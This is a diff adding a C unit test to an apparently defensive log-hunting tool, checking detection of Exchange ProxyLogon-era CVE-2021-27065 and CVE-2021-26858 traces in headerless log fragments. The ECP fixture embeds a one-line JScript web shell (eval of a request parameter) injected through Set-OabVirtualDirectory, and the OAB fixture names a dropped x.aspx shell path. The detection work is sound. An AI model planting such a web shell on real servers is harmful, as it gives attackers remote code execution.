@@ -214,12 +214,63 @@ static void test_gzip_then_plain(void **state) {
   free(dir);
 }
 
+/* Fragments of an ECP Server and an OABGenerator log without their header
+ * block (lines cut out of a larger log): read by their shape, and the
+ * CVE-2021-27065 Set-OabVirtualDirectory payload (the line Microsoft's
+ * HAFNIUM guidance and CISA AA21-062A show) and the CVE-2021-26858
+ * temporary file outside ClientAccess\OAB found, as in the whole logs. */
+static void test_headerless_exchange(void **state) {
+  (void)state;
+  static const char ecp[] =
+      "2021-03-03T06:59:17.960Z,EXCH01,ECP.Request,\"S:TIME=4365;S:SID=3f98e2"
+      "77-4cbd-87ad-5c90-a9587403e430;'S:CMD=Set-OabVirtualDirectory.External"
+      "Url=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">"
+      "function Page_Load(){eval(Request[\"\"p\"\"],\"\"unsafe\"\");}</script>"
+      "''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;S:URL="
+      "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;"
+      "S:RS=0;S:BLD=15.1.2176.2\"\r\n"
+      "2021-03-03T07:00:02.101Z,EXCH01,ECP.Request,\"S:TIME=60;S:SID=c6f87718"
+      "-6d76-b07e-881e-d162ae2eb154;S:CMD=Get-OabVirtualDirectory;S:REQID=;"
+      "S:URL=/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory;"
+      "S:EX=;S:RS=0;S:BLD=15.1.2176.2\"\r\n";
+  static const char oab[] =
+      "2021-03-03T06:59:21.000Z,EXCH01,Download failed and temporary file "
+      "'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx' needs to be "
+      "removed\r\n"
+      "2021-03-04T02:00:00.000Z,EXCH01,Download failed and temporary file "
+      "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB"
+      "\\Temp\\oab.tmp' needs to be removed\r\n";
+  char *dir = tu_tmpdir();
+  tu_write(dir, "ecp_cut.txt", ecp, sizeof ecp - 1);
+  tu_write(dir, "oab_cut.txt", oab, sizeof oab - 1);
+  sp_result *r = tu_hunt(dir, 2);
+  const sp_file_cov *c = tu_cov(r, "ecp_cut.txt");
+  assert_string_equal(c->source, "exchange_ecp");
+  assert_int_equal(c->events, 2);
+  c = tu_cov(r, "oab_cut.txt");
+  assert_string_equal(c->source, "exchange_oabgenerator");
+  assert_int_equal(c->events, 2);
+  const sp_finding *f =
+      tu_find(r, "spoor.exchange.cve_2021_27065.ecp_set_vdir_script", 0);
+  assert_non_null(f);
+  assert_int_equal(f->evidence[0].where, 1);
+  f = tu_find(r, "spoor.exchange.cve_2021_26858.oab_temp_file", 0);
+  assert_non_null(f);
+  assert_int_equal(f->count, 1); /* the OAB folder's own temp file is not */
+  assert_int_equal(f->evidence[0].where, 1);
+  assert_int_equal(sp_result_problems(r), 0);
+  sp_result_destroy(r);
+  tu_rm_rf(dir);
+  free(dir);
+}
+
 int main(void) {
   const struct CMUnitTest tests[] = {
       cmocka_unit_test(test_nul_padding),
       cmocka_unit_test(test_only_nuls),
       cmocka_unit_test(test_utf16),
       cmocka_unit_test(test_headerless_iis),
+      cmocka_unit_test(test_headerless_exchange),
       cmocka_unit_test(test_looks_like_unreadable),
       cmocka_unit_test(test_gzip_then_plain),
   };
